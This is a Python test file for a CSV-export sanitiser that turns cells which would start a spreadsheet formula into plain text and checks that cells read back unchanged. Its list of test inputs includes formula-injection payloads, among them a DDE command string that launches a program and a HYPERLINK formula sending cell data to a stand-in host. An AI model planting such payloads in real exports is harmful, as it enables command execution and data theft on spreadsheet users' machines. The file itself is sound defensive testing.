"""No cell of ours is a formula, and every cell can be read back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tools.plain import csvsafe

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    " =1",
    "　=1",
    '"=1',
    "'=1",
    "\ufeff=1",
    "\u200b=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"見る")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_a_formula_is_text(text):
    assert csvsafe.cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "K-1", "見積書", "12", "2026-11-24 10:12", "a=b", "1-2", "–", "・-"])
def test_what_is_none_stays_as_it_is(text):
    assert csvsafe.cell(text) == text


@given(st.lists(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["Cs"])), min_size=1))
def test_cells_come_back(cells):
    read = list(csv.reader(io.StringIO(csvsafe.line(cells), newline="")))
    assert read == [[csvsafe.cell(one) for one in cells]]


@given(st.text(max_size=30) | st.text("'=+-@ ＝\t\n1", max_size=6))
def test_what_was_taken_along_reads_back_as_it_was(text):
    assert csvsafe.plain(csvsafe.cell(text)) == text or text.startswith("'")


@pytest.mark.parametrize("text", ["'24年度の見積", "'", "''", "O'Brien", "=1"])
def test_an_apostrophe_of_its_own_stays(text):
    assert csvsafe.plain(text) == text
